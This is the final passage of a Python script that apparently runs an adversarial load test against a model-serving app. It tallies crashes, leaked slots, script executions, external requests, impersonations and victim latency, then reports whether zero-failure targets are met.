    ratio = round(attack_p99 / quiet_p99, 2) if quiet_p99 and attack_p99 else None
    out = {
        "requests": tally.requests,
        "planned_requests": sum(p.repeat for p in probes) + IMPERSONATION_REQUESTS,
        "cases": len(probes),
        "suite_slice": suite,
        "crashes_5xx": len(tally.crashes),
        "leaked_slots": leaked,
        "script_executions": result_browser.get("script_executions"),
        "external_requests": result_browser.get("external_requests"),
        "impersonations": len(tally.impersonations),
        "server_alive": alive,
        "victim_ttft_ms": {
            "quiet_p50": pct(quiet, 50),
            "quiet_p99": quiet_p99,
            "attack_p50": pct(attacked, 50),
            "attack_p99": attack_p99,
            "p99_ratio": ratio,
            "samples": [len(quiet), len(attacked)],
            "quiet_ms": [round(x, 1) for x in quiet],
            "attack_ms": [round(x, 1) for x in attacked],
        },
        "attack_s": round(attack_s, 1),
        "phase_s": phase_s,
        "statuses": dict(sorted(tally.statuses.items())),
        "by_category": {k: dict(sorted(v.items())) for k, v in sorted(tally.by_category.items())},
        "crash_examples": tally.crashes[:20],
        "impersonation_examples": tally.impersonations[:10],
        "browser": result_browser,
        "events_pending_in_spool": health.get("events", {}).get("pending"),
        "quick": quick,
        "serving": "servers" if servers else "embedded",
        "load_avg_start": [round(x, 2) for x in load_start],
        "load_avg_end": [round(x, 2) for x in os.getloadavg()],
    }
    out["targets"] = {
        "crashes_5xx == 0": out["crashes_5xx"] == 0,
        "leaked_slots == 0": leaked == 0,
        "script_executions == 0": out["script_executions"] == 0,
        "external_requests == 0": out["external_requests"] == 0,
        "impersonations == 0": out["impersonations"] == 0,
        "server alive": alive,
        "victim TTFT p99 under attack <= 2x quiet": ratio is not None and ratio <= 2.0,
    }
    return out


def summary(r: dict) -> str:
    v = r["victim_ttft_ms"]
    lines = [
        f"requests {r['requests']} in {r['attack_s']} s; 5xx {r['crashes_5xx']}; leaked slots {r['leaked_slots']}; "
        f"impersonations {r['impersonations']}; server alive {r['server_alive']}",
        f"browser: script executions {r['script_executions']}, external requests {r['external_requests']}",
        f"victim TTFT ms: quiet p50 {v['quiet_p50']} p99 {v['quiet_p99']}; under attack p50 {v['attack_p50']} "
        f"p99 {v['attack_p99']} (x{v['p99_ratio']})",
        "statuses: " + ", ".join(f"{k} {n}" for k, n in r["statuses"].items()),
        "targets: " + ", ".join(f"{k}: {'met' if ok else 'NOT met'}" for k, ok in r["targets"].items()),
    ]
    return "\n".join(lines)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--json", action="store_true", help="print one JSON object")
    ap.add_argument("--quick", action="store_true", help="one round of the corpus, fewer victim answers and floods")
    ap.add_argument("--suite-slice", action="store_true", help="only the slice the test suite runs (see GUARDS)")
    ap.add_argument("--no-browser", action="store_true", help="skip the Chromium check")
    ap.add_argument("--victim-requests", type=int, default=None, help="victim answers per phase (default 20)")
    ap.add_argument("--flood", type=int, default=None, help="requests per flood kind per round (default 60)")
    ap.add_argument("--workers", type=int, default=6, help="attacker threads")
    ap.add_argument("--servers", action="store_true", help="the model in a model server apart from the app")
    ap.add_argument("--out", type=Path, default=None, help="also write the JSON here")
    a = ap.parse_args()
    if not a.no_browser and not Path(CHROMIUM).exists():
        print(f"hostile: {CHROMIUM} is missing: apt-get install -y chromium (or pass --no-browser)", file=sys.stderr)
        return 2
    r = run(
        quick=a.quick,
        browser=not a.no_browser,
        victim_n=a.victim_requests,
        flood=a.flood,
        workers=a.workers,
        suite=a.suite_slice,
        servers=a.servers,
    )
    if a.out:
        a.out.parent.mkdir(parents=True, exist_ok=True)
        a.out.write_text(json.dumps(r, indent=2) + "\n")
    print(json.dumps(r, indent=2) if a.json else summary(r))
    return 0 if all(r["targets"].values()) else 1


if __name__ == "__main__":
    sys.exit(main())
